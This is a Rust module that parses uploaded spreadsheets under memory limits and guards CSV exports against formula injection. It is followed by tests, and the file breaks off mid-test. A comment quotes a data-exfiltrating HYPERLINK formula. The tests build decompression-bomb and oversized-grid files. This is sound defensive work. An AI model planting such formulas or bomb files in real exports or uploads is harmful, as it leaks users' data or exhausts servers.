//! Reading and writing spreadsheets as plain tables of strings (pure functions over bytes).
//!
//! The input format is detected from the content, never from a file name:
//! `PK\x03\x04` is an xlsx (Office Open XML) workbook, `D0 CF 11 E0 A1 B1 1A E1` a legacy
//! xls (OLE, BIFF8) workbook, anything else is tried as CSV text (UTF-8, with or without BOM, or
//! GB18030/GBK as saved by a Chinese Excel).
//!
//! **Memory is bounded before it is allocated** ([`SheetLimits`], `docs/security.md`). An upload
//! is outside input: a 1.6 KB xlsx can declare a cell at `XFD1048576`, a zip entry can inflate a
//! thousandfold, an xls can chain its sectors in a loop, one shared string can be referenced by
//! every cell. So no reader here builds a dense grid from what a file declares: each reads the
//! cells one by one (the xlsx XML as a stream, the xls records in place, the CSV text char by
//! char) into a [`Grid`] that checks the row, column, cell, cell-length and text limits before
//! it stores anything; the xlsx zip is read through a meter that stops at a total of unpacked
//! bytes and at an oversized XML element. What a file says about itself (dimensions, counts,
//! sizes) is never used to reserve memory.

use std::collections::BTreeMap;

mod xls;
mod xlsx;
#[cfg(test)]
pub(crate) use xls::tests as xls_tests;

const ZIP_MAGIC: &[u8] = b"PK\x03\x04";
const OLE_MAGIC: &[u8] = &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
const UTF8_BOM: &[u8] = &[0xEF, 0xBB, 0xBF];

/// What reading one spreadsheet may hold in memory. The defaults fit the largest real import
/// (500,000 rows of the 12-column household template, about 6 million cells) with room to spare,
/// and cap what a hostile file can make the server hold at the same order of size.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SheetLimits {
    /// Data rows (non-blank rows below the header row).
    pub max_rows: usize,
    /// Columns: a non-empty cell further right is refused.
    pub max_columns: usize,
    /// Cells of the table as held (rows × their width, padded to the header's width).
    pub max_cells: usize,
    /// Characters in one cell (Excel's own limit is 32,767).
    pub max_cell_chars: usize,
    /// Bytes of text held: the cells' text plus an xlsx/xls shared-string table (a shared
    /// string is copied into every cell that uses it, so this is counted per cell).
    pub max_text_bytes: usize,
    /// Bytes unpacked from an xlsx zip in all (the sheet XML is streamed, not held: this
    /// bounds the time a zip bomb can take).
    pub max_unzipped_bytes: u64,
}

impl SheetLimits {
    pub const MAX_COLUMNS: usize = 256;
    pub const MAX_CELLS: usize = 8_000_000;
    pub const MAX_CELL_CHARS: usize = 32_767;
    pub const MAX_TEXT_BYTES: usize = 128 * 1024 * 1024;
    pub const MAX_UNZIPPED_BYTES: u64 = 1024 * 1024 * 1024;

    /// The default limits with `max_rows` data rows.
    pub fn new(max_rows: usize) -> Self {
        SheetLimits {
            max_rows,
            max_columns: Self::MAX_COLUMNS,
            max_cells: Self::MAX_CELLS,
            max_cell_chars: Self::MAX_CELL_CHARS,
            max_text_bytes: Self::MAX_TEXT_BYTES,
            max_unzipped_bytes: Self::MAX_UNZIPPED_BYTES,
        }
    }
}

/// Why an upload could not be read as a table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SheetError {
    /// Not an xlsx/xls workbook and not CSV text either (or a corrupt workbook).
    NotASpreadsheet,
    /// No header row, or a header row without any data row below it.
    Empty,
    /// More data rows than the given limit (the limit is carried).
    TooManyRows(usize),
    /// A cell beyond the column limit, or more cells in all than the cell limit (the limits
    /// are carried: at most `rows` data rows × `columns` columns, `cells` cells).
    TooLarge {
        rows: usize,
        columns: usize,
        cells: usize,
    },
    /// One cell holds more characters than the limit (1-based row, 0-based column).
    CellTooLong {
        row: usize,
        column: usize,
        limit: usize,
    },
    /// More text, or more bytes once unzipped, than the limit (in MB).
    TooMuchData { limit_mb: usize },
}

impl SheetError {
    /// The localized message key.
    pub fn code(&self) -> &'static str {
        match self {
            SheetError::NotASpreadsheet => "import.not_a_spreadsheet",
            SheetError::Empty => "import.empty",
            SheetError::TooManyRows(_) => "import.too_many_rows",
            SheetError::TooLarge { .. } => "import.sheet_too_large",
            SheetError::CellTooLong { .. } => "import.cell_too_long",
            SheetError::TooMuchData { .. } => "import.too_much_data",
        }
    }

    /// The arguments of the localized message.
    pub fn args(&self) -> Vec<(&'static str, String)> {
        match self {
            SheetError::NotASpreadsheet | SheetError::Empty => Vec::new(),
            SheetError::TooManyRows(limit) => vec![("limit", limit.to_string())],
            SheetError::TooLarge {
                rows,
                columns,
                cells,
            } => vec![
                ("rows", rows.to_string()),
                ("columns", columns.to_string()),
                ("cells", cells.to_string()),
            ],
            SheetError::CellTooLong { row, column, limit } => vec![
                ("row", row.to_string()),
                ("column", column_name(*column)),
                ("limit", limit.to_string()),
            ],
            SheetError::TooMuchData { limit_mb } => vec![("limit", limit_mb.to_string())],
        }
    }

    fn too_large(limits: &SheetLimits) -> Self {
        SheetError::TooLarge {
            rows: limits.max_rows,
            columns: limits.max_columns,
            cells: limits.max_cells,
        }
    }

    fn too_much_data(limit_bytes: u64) -> Self {
        SheetError::TooMuchData {
            limit_mb: (limit_bytes / (1024 * 1024)) as usize,
        }
    }
}

impl std::fmt::Display for SheetError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.code())?;
        for (i, (k, v)) in self.args().iter().enumerate() {
            write!(f, "{}{k}={v}", if i == 0 { " (" } else { ", " })?;
        }
        if !self.args().is_empty() {
            f.write_str(")")?;
        }
        Ok(())
    }
}

impl std::error::Error for SheetError {}

/// Excel's name of a 0-based column: 0 → `A`, 25 → `Z`, 26 → `AA`.
pub fn column_name(mut col: usize) -> String {
    let mut name = Vec::new();
    loop {
        name.push(b'A' + (col % 26) as u8);
        if col < 26 {
            break;
        }
        col = col / 26 - 1;
    }
    name.reverse();
    String::from_utf8(name).unwrap_or_default()
}

/// A table read from a spreadsheet: trimmed header cells and the non-blank data rows, each
/// with the 1-based row number the user sees in Excel (so issues can point at it).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Table {
    pub headers: Vec<String>,
    /// `(row number, cells)`; cells are trimmed and padded to at least `headers.len()`.
    pub rows: Vec<(usize, Vec<String>)>,
}

impl Table {
    /// Index of the column whose (trimmed) header is exactly `name`.
    pub fn column(&self, name: &str) -> Option<usize> {
        self.headers.iter().position(|h| h == name)
    }
}

/// Read the first worksheet of an xlsx/xls workbook or a CSV text into a [`Table`], with the
/// default [`SheetLimits`] and `max_rows` data rows.
///
/// The first non-blank row is the header row; rows whose cells are all blank are skipped.
/// More than `max_rows` data rows give [`SheetError::TooManyRows`].
pub fn read_table(bytes: &[u8], max_rows: usize) -> Result<Table, SheetError> {
    read_table_with(bytes, &SheetLimits::new(max_rows))
}

/// [`read_table`] with explicit limits.
pub fn read_table_with(bytes: &[u8], limits: &SheetLimits) -> Result<Table, SheetError> {
    if bytes.iter().all(u8::is_ascii_whitespace) {
        return Err(SheetError::Empty);
    }
    let mut grid = Grid::new(limits);
    if bytes.starts_with(ZIP_MAGIC) || bytes.starts_with(OLE_MAGIC) {
        // The container readers (zip, compound file, XML) are third-party code walking hostile
        // bytes: a panic in there must become "not a spreadsheet", never take the caller down.
        let read = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            if bytes.starts_with(ZIP_MAGIC) {
                xlsx::read(bytes, limits, &mut grid)
            } else {
                xls::read(bytes, limits, &mut grid)
            }
        }));
        read.unwrap_or(Err(SheetError::NotASpreadsheet))?;
        return into_table(grid.finish(true)?);
    }
    read_csv(bytes, limits, &mut grid)?;
    into_table(grid.finish(false)?)
}

/// Split numbered rows into the header row and data rows.
fn into_table(mut numbered: Vec<(usize, Vec<String>)>) -> Result<Table, SheetError> {
    if numbered.is_empty() {
        return Err(SheetError::Empty);
    }
    let (_, headers) = numbered.remove(0);
    if numbered.is_empty() {
        return Err(SheetError::Empty);
    }
    let width = headers.len();
    for (_, cells) in &mut numbered {
        if cells.len() < width {
            // Within the cell limit: `Grid::finish` counted the padding.
            cells.resize(width, String::new());
        }
    }
    Ok(Table {
        headers,
        rows: numbered,
    })
}

/// The cells read so far, checked against the limits before anything is stored: rows by their
/// 1-based number, each without trailing blanks; blank cells are never stored, so a row holds
/// only as many cells as reach its last non-blank one.
struct Grid<'a> {
    limits: &'a SheetLimits,
    rows: BTreeMap<usize, Vec<String>>,
    /// Cells held (the sum of the rows' widths).
    cells: usize,
    /// Bytes of text held.
    text: usize,
}

impl<'a> Grid<'a> {
    fn new(limits: &'a SheetLimits) -> Self {
        Grid {
            limits,
            rows: BTreeMap::new(),
            cells: 0,
            text: 0,
        }
    }

    /// Check a cell's text against the length limit (before it is copied anywhere).
    fn check_len(&self, row: usize, col: usize, text: &str) -> Result<(), SheetError> {
        // Bytes ≥ chars: only a long text needs counting.
        if text.len() > self.limits.max_cell_chars
            && text.chars().count() > self.limits.max_cell_chars
        {
            return Err(SheetError::CellTooLong {
                row,
                column: col,
                limit: self.limits.max_cell_chars,
            });
        }
        Ok(())
    }

    /// Store the (already trimmed) text of the cell at `row` (1-based) and `col` (0-based);
    /// blank text is not stored.
    fn put(&mut self, row: usize, col: usize, text: &str) -> Result<(), SheetError> {
        if text.is_empty() {
            return Ok(());
        }
        let limits = self.limits;
        if col >= limits.max_columns {
            return Err(SheetError::too_large(limits));
        }
        self.check_len(row, col, text)?;
        if !self.rows.contains_key(&row) && self.rows.len() > limits.max_rows {
            // Header plus max_rows data rows already held: this one is too many.
            return Err(SheetError::TooManyRows(limits.max_rows));
        }
        let old = self
            .rows
            .get(&row)
            .and_then(|cells| cells.get(col))
            .map_or(0, String::len);
        let text_now = self.text - old + text.len();
        if text_now > limits.max_text_bytes {
            return Err(SheetError::too_much_data(limits.max_text_bytes as u64));
        }
        let width = self.rows.get(&row).map_or(0, Vec::len);
        let grow = (col + 1).saturating_sub(width);
        if self.cells + grow > limits.max_cells {
            return Err(SheetError::too_large(limits));
        }
        let cells = self.rows.entry(row).or_default();
        if grow > 0 {
            cells.reserve_exact(grow);
            cells.resize(col + 1, String::new());
        }
        cells[col] = text.to_string();
        self.cells += grow;
        self.text = text_now;
        Ok(())
    }

    /// The rows in order, once the padding to the header's width is known to fit. A workbook's
    /// table starts at its leftmost used column (`from_left`), as Excel's used range does; a
    /// CSV's at its first field.
    fn finish(mut self, from_left: bool) -> Result<Vec<(usize, Vec<String>)>, SheetError> {
        if from_left {
            let first = self
                .rows
                .values()
                .filter_map(|cells| cells.iter().position(|c| !c.is_empty()))
                .min()
                .unwrap_or(0);
            if first > 0 {
                for cells in self.rows.values_mut() {
                    cells.drain(..first);
                }
            }
        }
        let width = self.rows.values().next().map_or(0, Vec::len);
        let padded = self
            .rows
            .values()
            .fold(0usize, |n, cells| n.saturating_add(cells.len().max(width)));
        if padded > self.limits.max_cells {
            return Err(SheetError::too_large(self.limits));
        }
        Ok(self.rows.into_iter().collect())
    }
}

/// A number as a cell shows it: formatted as a date when its number format is one.
fn number_text(v: f64, format: NumberFormat, is_1904: bool) -> String {
    // Serial numbers of dates from 1900 to 9999; anything else stays a number.
    if format == NumberFormat::Date && (0.0..2_958_466.0).contains(&v) {
        let dt = calamine::ExcelDateTime::new(v, calamine::ExcelDateTimeType::DateTime, is_1904);
        let (y, mo, d, h, mi, s, _) = dt.to_ymd_hms_milli();
        return if (h, mi, s) == (0, 0, 0) {
            format!("{y:04}-{mo:02}-{d:02}")
        } else {
            format!("{y:04}-{mo:02}-{d:02} {h:02}:{mi:02}:{s:02}")
        };
    }
    float_text(v)
}

/// What a cell's number format makes of a number.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
enum NumberFormat {
    #[default]
    Number,
    Date,
    /// Elapsed time (`[h]:mm:ss`): shown as the number.
    Duration,
}

impl NumberFormat {
    /// A built-in format id (ECMA-376 18.8.30; 27–36 and 50–58 are the East Asian dates).
    fn builtin(id: u32) -> Self {
        match id {
            14..=22 | 27..=36 | 45 | 47 | 50..=58 => NumberFormat::Date,
            46 => NumberFormat::Duration,
            _ => NumberFormat::Number,
        }
    }

    /// A custom format code: a date when its first section has a date or time letter outside
    /// quotes, brackets and escapes; elapsed time when it has `[h]`, `[m]` or `[s]`.
    fn custom(code: &str) -> Self {
        let mut chars = code.chars();
        let mut found = NumberFormat::Number;
        while let Some(c) = chars.next() {
            match c {
                ';' => break,
                '\\' | '_' | '*' => {
                    chars.next();
                }
                '"' => {
                    for q in chars.by_ref() {
                        if q == '"' {
                            break;
                        }
                    }
                }
                '[' => {
                    let inner: String = chars.by_ref().take_while(|b| *b != ']').collect();
                    let lower = inner.to_ascii_lowercase();
                    if !lower.is_empty() && lower.chars().all(|b| matches!(b, 'h' | 'm' | 's')) {
                        return NumberFormat::Duration;
                    }
                }
                'd' | 'D' | 'm' | 'M' | 'y' | 'Y' | 'h' | 'H' | 's' | 'S' => {
                    found = NumberFormat::Date;
                }
                _ => {}
            }
        }
        found
    }
}

/// A cell as trimmed text from its typed value.
fn bool_text(b: bool) -> &'static str {
    if b { "TRUE" } else { "FALSE" }
}

/// An ISO 8601 date cell (`t="d"`): "2024-03-01T00:00:00" → "2024-03-01".
fn iso_date_text(s: &str) -> String {
    let s = s.trim();
    match s.split_once('T') {
        Some((date, time)) if time.trim_start_matches(['0', ':', '.']).is_empty() => {
            date.to_string()
        }
        Some((date, time)) => format!("{date} {time}"),
        None => s.to_string(),
    }
}

/// Whole numbers print as integers (a phone or room number typed as a number); note that
/// an 18-digit ID stored as a number has already lost its last digits in Excel.
fn float_text(f: f64) -> String {
    if f.is_finite() && f.fract() == 0.0 && f.abs() < 1e21 {
        format!("{f:.0}")
    } else {
        f.to_string()
    }
}

fn decode_text(bytes: &[u8]) -> Result<String, SheetError> {
    let bytes = bytes.strip_prefix(UTF8_BOM).unwrap_or(bytes);
    if bytes.contains(&0) {
        return Err(SheetError::NotASpreadsheet);
    }
    let text = match std::str::from_utf8(bytes) {
        Ok(s) => s.to_string(),
        Err(_) => {
            let (text, _, had_errors) = encoding_rs::GB18030.decode(bytes);
            if had_errors {
                return Err(SheetError::NotASpreadsheet);
            }
            text.into_owned()
        }
    };
    let binary = text
        .chars()
        .any(|c| c == '\u{FFFD}' || (c.is_control() && !matches!(c, '\t' | '\r' | '\n')));
    if binary {
        return Err(SheetError::NotASpreadsheet);
    }
    Ok(text)
}

/// CSV text (RFC 4180), read char by char into the grid: records numbered the way Excel shows
/// them (a quoted field may span lines, a blank line is a blank row), each field checked
/// against the length limit while it grows and stored only if it is not blank, so neither a
/// record of a million empty fields nor one endless quoted field is ever held.
fn read_csv(bytes: &[u8], limits: &SheetLimits, grid: &mut Grid) -> Result<(), SheetError> {
    let text = decode_text(bytes)?;
    // The first non-blank line must look like a comma-separated header.
    let header_line = text.lines().find(|l| !l.trim().is_empty());
    match header_line {
        None => return Err(SheetError::Empty),
        Some(line) if !line.contains(',') => return Err(SheetError::NotASpreadsheet),
        Some(_) => {}
    }
    let mut row = 1usize;
    let mut col = 0usize;
    let mut field = String::new();
    let mut chars = 0usize;
    let mut in_quotes = false;
    let end_field = |grid: &mut Grid, row: usize, col: &mut usize, field: &mut String| {
        let r = grid.put(row, *col, without_formula_guard(field.trim()));
        field.clear();
        *col += 1;
        r
    };
    let mut it = text.chars().peekable();
    while let Some(c) = it.next() {
        if in_quotes {
            match c {
                '"' if it.peek() == Some(&'"') => {
                    it.next();
                }
                '"' => {
                    in_quotes = false;
                    continue;
                }
                _ => {}
            }
        } else {
            match c {
                ',' => {
                    end_field(grid, row, &mut col, &mut field)?;
                    chars = 0;
                    continue;
                }
                '\r' | '\n' => {
                    if c == '\r' && it.peek() == Some(&'\n') {
                        it.next();
                    }
                    end_field(grid, row, &mut col, &mut field)?;
                    chars = 0;
                    row += 1;
                    col = 0;
                    continue;
                }
                '"' if field.is_empty() => {
                    in_quotes = true;
                    continue;
                }
                _ => {}
            }
        }
        chars += 1;
        if chars > limits.max_cell_chars {
            return Err(SheetError::CellTooLong {
                row,
                column: col,
                limit: limits.max_cell_chars,
            });
        }
        field.push(c);
    }
    end_field(grid, row, &mut col, &mut field)?;
    Ok(())
}

/// Display width of a cell in Excel column units (CJK characters count double).
fn display_width(s: &str) -> usize {
    s.chars().map(|c| if c.is_ascii() { 1 } else { 2 }).sum()
}

/// An xlsx workbook with one sheet: a bold header row, then all cells as text (so ID
/// numbers keep their 18 digits and leading zeros survive).
pub fn write_xlsx(
    sheet_name: &str,
    headers: &[&str],
    rows: &[Vec<String>],
) -> Result<Vec<u8>, String> {
    use rust_xlsxwriter::{Format, Workbook};

    let mut workbook = Workbook::new();
    let bold = Format::new().set_bold().set_num_format("@");
    let text = Format::new().set_num_format("@");
    let sheet = workbook.add_worksheet();
    sheet.set_name(sheet_name).map_err(|e| e.to_string())?;
    let columns = rows
        .iter()
        .map(Vec::len)
        .chain(std::iter::once(headers.len()))
        .max()
        .unwrap_or(0);
    let columns = u16::try_from(columns).map_err(|_| "too many columns".to_string())?;
    for col in 0..columns {
        let c = usize::from(col);
        let widest = rows
            .iter()
            .filter_map(|r| r.get(c))
            .map(|s| display_width(s))
            .chain(headers.get(c).map(|h| display_width(h)))
            .max()
            .unwrap_or(0);
        let width = (widest + 2).clamp(8, 50) as f64;
        sheet
            .set_column_width(col, width)
            .map_err(|e| e.to_string())?;
        // Cells users add later in the template are text too.
        sheet
            .set_column_format(col, &text)
            .map_err(|e| e.to_string())?;
    }
    for (c, h) in headers.iter().enumerate() {
        sheet
            .write_string_with_format(0, c as u16, *h, &bold)
            .map_err(|e| e.to_string())?;
    }
    for (r, row) in rows.iter().enumerate() {
        let r = u32::try_from(r + 1).map_err(|_| "too many rows".to_string())?;
        for (c, value) in row.iter().enumerate() {
            sheet
                .write_string_with_format(r, c as u16, value, &text)
                .map_err(|e| e.to_string())?;
        }
    }
    sheet.set_freeze_panes(1, 0).map_err(|e| e.to_string())?;
    workbook.save_to_buffer().map_err(|e| e.to_string())
}

/// CSV text in UTF-8 with a BOM (so Excel recognizes the encoding), RFC 4180 quoting.
pub fn write_csv(headers: &[&str], rows: &[Vec<String>]) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new()
        .flexible(true)
        .from_writer(UTF8_BOM.to_vec());
    // Writing into a Vec cannot fail.
    let _ = writer.write_record(headers);
    for row in rows {
        let _ = writer.write_record(row.iter().map(|c| with_formula_guard(c).into_owned()));
    }
    writer.into_inner().unwrap_or_default()
}

/// Characters that make Excel, WPS or LibreOffice run a CSV cell as a formula (CSV injection:
/// `=HYPERLINK("http://…"&A1)` sends data away when the file is opened).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell that a spreadsheet would run as a formula, written with a leading `'` (shown as
/// text, and taken off again by [`read_table`]). Plain numbers such as `-3` are left alone.
fn with_formula_guard(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_START) && cell.trim().parse::<f64>().is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The text of a cell written by [`with_formula_guard`].
fn without_formula_guard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) => rest,
        _ => cell,
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::alloc_meter::{installed, measure};

    const MIB: usize = 1024 * 1024;

    /// A zip of the given parts (deflated, as Excel writes them).
    pub(crate) fn zip_parts(parts: &[(&str, Vec<u8>)]) -> Vec<u8> {
        use std::io::Write;
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        for (name, data) in parts {
            w.start_file(*name, options).unwrap();
            w.write_all(data).unwrap();
        }
        w.finish().unwrap().into_inner()
    }

    /// A minimal xlsx: one worksheet whose `<worksheet>` holds `sheet`, and `more` parts
    /// (shared strings, styles) that the workbook relationships name when present.
    pub(crate) fn tiny_xlsx(sheet: &str, more: &[(&str, Vec<u8>)]) -> Vec<u8> {
        let ns = r#"xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships""#;
        let rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
        let mut rels = format!(
            r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>"#
        );
        for (name, _) in more {
            let (ty, target) = match *name {
                "xl/sharedStrings.xml" => ("sharedStrings", "sharedStrings.xml"),
                "xl/styles.xml" => ("styles", "styles.xml"),
                _ => continue,
            };
            rels.push_str(&format!(
                r#"<Relationship Id="r{ty}" Type="{rel}/{ty}" Target="{target}"/>"#
            ));
        }
        rels.push_str("</Relationships>");
        let mut parts = vec![
            ("[Content_Types].xml", b"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>".to_vec()),
            ("_rels/.rels", format!(r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#).into_bytes()),
            ("xl/workbook.xml", format!(r#"<workbook {ns}><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>"#).into_bytes()),
            ("xl/_rels/workbook.xml.rels", rels.into_bytes()),
            ("xl/worksheets/sheet1.xml", format!(r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet {ns}>{sheet}</worksheet>"#).into_bytes()),
        ];
        parts.extend(more.iter().cloned());
        zip_parts(&parts)
    }

    /// Issue #13, finding 1: a 1.6 KB xlsx whose only cells are A1 and XFD1048576 made the old
    /// reader allocate the dense 16,384 × 1,048,576 grid between them (550 GB). It is refused
    /// now, having held next to nothing. Under the counting allocator the old code dies at once
    /// on the 64 MiB cap instead of eating the machine.
    #[test]
    fn a_sheet_with_cells_at_a1_and_xfd1048576_is_refused_without_allocating_the_grid() {
        let bytes = tiny_xlsx(
            r#"<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>"#,
            &[],
        );
        assert!(bytes.len() < 2048, "{} bytes", bytes.len());
        let (result, peak) = measure(64 * MIB, || read_table(&bytes, 500_000));
        let err = result.expect_err("refused");
        assert_eq!(err.code(), "import.sheet_too_large", "{err}");
        assert!(peak < 4 * MIB, "held {peak} bytes");
        assert!(
            installed(),
            "the counting allocator is installed in this test binary"
        );
    }

    fn small_limits() -> SheetLimits {
        SheetLimits {
            max_rows: 1000,
            max_columns: 64,
            max_cells: 20_000,
            max_cell_chars: 1000,
            max_text_bytes: 2 * MIB,
            max_unzipped_bytes: 16 * MIB as u64,
        }
    }

    #[test]
    fn every_limit_refuses_with_its_own_error_and_arguments() {
        let l = small_limits();
        let wide = format!("a{}x\n1,2\n", ",".repeat(64));
        let err = read_table_with(wide.as_bytes(), &l).unwrap_err();
        assert_eq!(
            err,
            SheetError::TooLarge {
                rows: 1000,
                columns: 64,
                cells: 20_000
            }
        );
        assert_eq!(
            err.args(),
            [
                ("rows", "1000".to_string()),
                ("columns", "64".to_string()),
                ("cells", "20000".to_string())
            ]
        );
        // Trailing empty fields are no columns (Excel writes them).
        let trailing = format!("a,b{}\n1,2{}\n", ",".repeat(500), ",".repeat(500));
        assert_eq!(
            read_table_with(trailing.as_bytes(), &l).unwrap().headers,
            ["a", "b"]
        );
        // A header 40 wide and 600 rows of one cell: 24,000 cells once padded.
        let padded = format!("{}\n{}", vec!["h"; 40].join(","), "x,\n".repeat(600));
        assert_eq!(
            read_table_with(padded.as_bytes(), &l).unwrap_err().code(),
            "import.sheet_too_large"
        );
        let long = format!("a,b\n1,\"{}\"\n", "长".repeat(1001));
        let err = read_table_with(long.as_bytes(), &l).unwrap_err();
        assert_eq!(
            err,
            SheetError::CellTooLong {
                row: 2,
                column: 1,
                limit: 1000
            }
        );
        assert_eq!(err.args()[1], ("column", "B".to_string()));
        // An endless quoted field stops at the limit, not at the end of the file.
        let open = format!("a,b\n1,\"{}", "x".repeat(10 * MIB));
        let (r, peak) = measure(64 * MIB, || read_table_with(open.as_bytes(), &l));
        assert_eq!(r.unwrap_err().code(), "import.cell_too_long");
        assert!(peak < 3 * open.len(), "held {peak} bytes");
        assert_eq!(column_name(0), "A");
        assert_eq!(column_name(25), "Z");
        assert_eq!(column_name(26), "AA");
        assert_eq!(column_name(16_383), "XFD");
    }

    #[test]
    fn csv_of_empty_fields_and_blank_lines_holds_next_to_nothing() {
        let l = SheetLimits::new(500_000);
        for text in [
            format!("a,b\n{}", ",".repeat(8 * MIB)),
            format!("a,b\n{}1,2\n", "\n".repeat(8 * MIB)),
            format!("a,b\n{}", " ,\r\n".repeat(MIB)),
        ] {
            let (r, peak) = measure(256 * MIB, || read_table_with(text.as_bytes(), &l));
            assert!(r.is_ok() || r.is_err());
            // The decoded copy of the text, and little else.
            assert!(
                peak < text.len() + MIB,
                "held {peak} bytes for {}",
                text.len()
            );
        }
    }

    #[test]
    fn shared_strings_copied_into_many_cells_stop_at_the_text_limit() {
        // One 30,000-character shared string, named by 5,000 cells of 40 bytes each.
        let sst = format!(
            r#"<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="999999999" uniqueCount="999999999"><si><t>{}</t></si><si><t>名</t></si></sst>"#,
            "长".repeat(30_000)
        );
        let mut rows = String::from(r#"<row r="1"><c r="A1" t="s"><v>1</v></c></row>"#);
        for r in 2..5002 {
            rows.push_str(&format!(
                r#"<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>"#
            ));
        }
        let bytes = tiny_xlsx(
            &format!("<sheetData>{rows}</sheetData>"),
            &[("xl/sharedStrings.xml", sst.into_bytes())],
        );
        let l = SheetLimits::new(500_000);
        let (r, peak) = measure(512 * MIB, || read_table_with(&bytes, &l));
        assert_eq!(
            r.unwrap_err(),
            SheetError::TooMuchData {
                limit_mb: SheetLimits::MAX_TEXT_BYTES / MIB
            }
        );
        assert!(
            peak < SheetLimits::MAX_TEXT_BYTES + 16 * MIB,
            "held {peak} bytes"
        );
    }

    #[test]
    fn styles_that_would_copy_a_huge_font_into_every_format_are_not_held() {
        // calamine copies a cell format's font into its style: 50,000 formats naming one font
        // with a 1 MB name asked for 50 GB.
        let styles = format!(
            r#"<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><numFmts count="1"><numFmt numFmtId="164" formatCode="yyyy&quot;年&quot;m&quot;月&quot;d&quot;日&quot;"/></numFmts><fonts count="1"><font><name val="{}"/></font></fonts><cellXfs count="50001"><xf numFmtId="0" fontId="0"/><xf numFmtId="164" fontId="0"/>{}</cellXfs></styleSheet>"#,
            "F".repeat(100_000),
            r#"<xf numFmtId="0" fontId="0"/>"#.repeat(50_000)
        );
        let bytes = tiny_xlsx(
            r#"<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>入住日期</t></is></c></row><row r="2"><c r="A2" s="1"><v>43678</v></c></row></sheetData>"#,
            &[("xl/styles.xml", styles.into_bytes())],
        );
        let (r, peak) = measure(64 * MIB, || read_table(&bytes, 10));
        assert_eq!(r.unwrap().rows[0].1, ["2019-08-01"]);
        assert!(peak < 4 * MIB, "held {peak} bytes");
    }

    #[test]
    fn a_zip_bomb_stops_at_the_unpacked_limit() {
        let mut l = small_limits();
        l.max_unzipped_bytes = 8 * MIB as u64;
        // 48 MB of blanks between two cells: a hundred KB deflated.
        let sheet = format!(
            r#"<sheetData><row r="1"><c r="A1"><v>1</v></c></row>{}</sheetData>"#,
            "<row/>".repeat(48 * MIB / 6)
        );
        let bytes = tiny_xlsx(&sheet, &[]);
        drop(sheet);
        assert!(bytes.len() < 2 * MIB, "{} bytes", bytes.len());
        let (r, peak) = measure(64 * MIB, || read_table_with(&bytes, &l));
        assert_eq!(r.unwrap_err(), SheetError::TooMuchData { limit_mb: 8 });
        assert!(peak < 2 * MIB, "held {peak} bytes");
        // One element larger than any cell: refused as it grows.
        let huge = format!(
            r#"<sheetData><row r="1"><c r="A1"><v>{}</v></c></row></sheetData>"#,
            "1".repeat(8 * MIB)
        );
        let bytes = tiny_xlsx(&huge, &[]);
        let (r, peak) = measure(64 * MIB, || read_table_with(&bytes, &l));
        assert!(r.is_err());
        assert!(peak < 2 * MIB, "held {peak} bytes");
    }

    #[test]
    fn xls_cells_of_every_kind_are_read() {
        use xls::tests::{rc, record, wide, xls};
        // SST: "姓名", "王小明"; a custom date format and a cell format using it.
        let mut sst = 3u32.to_le_bytes().to_vec();
        sst.extend_from_slice(&2u32.to_le_bytes());
        sst.extend_from_slice(&wide("姓名"));
        sst.extend_from_slice(&wide("王小明"));
        let mut fmt = 164u16.to_le_bytes().to_vec();
        fmt.extend_from_slice(&wide("yyyy-mm-dd"));
        let xf = |ifmt: u16| {
            let mut d = vec![0, 0];
            d.extend_from_slice(&ifmt.to_le_bytes());
            d.extend_from_slice(&[0; 16]);
            record(0x00E0, &d)
        };
        let globals = vec![record(0x041E, &fmt), xf(0), xf(164), record(0x00FC, &sst)];
        let cell = |typ: u16, row: u16, col: u16, rest: &[u8]| {
            let mut d = rc(row, col);
            d.extend_from_slice(rest);
            record(typ, &d)
        };
        let mut date = rc(1, 3);
        date[4..6].copy_from_slice(&1u16.to_le_bytes());
        date.extend_from_slice(&43678.0f64.to_le_bytes());
        let mut mulrk = rc(1, 4);
        mulrk.truncate(4);
        for v in [7u32, 8] {
            mulrk.extend_from_slice(&0u16.to_le_bytes());
            mulrk.extend_from_slice(&((v << 2) | 2).to_le_bytes());
        }
        mulrk.extend_from_slice(&5u16.to_le_bytes());
        let mut formula = rc(1, 6);
        formula.extend_from_slice(&[0, 0, 0, 0, 0, 0, 0xFF, 0xFF]);
        formula.extend_from_slice(&[0; 6]);
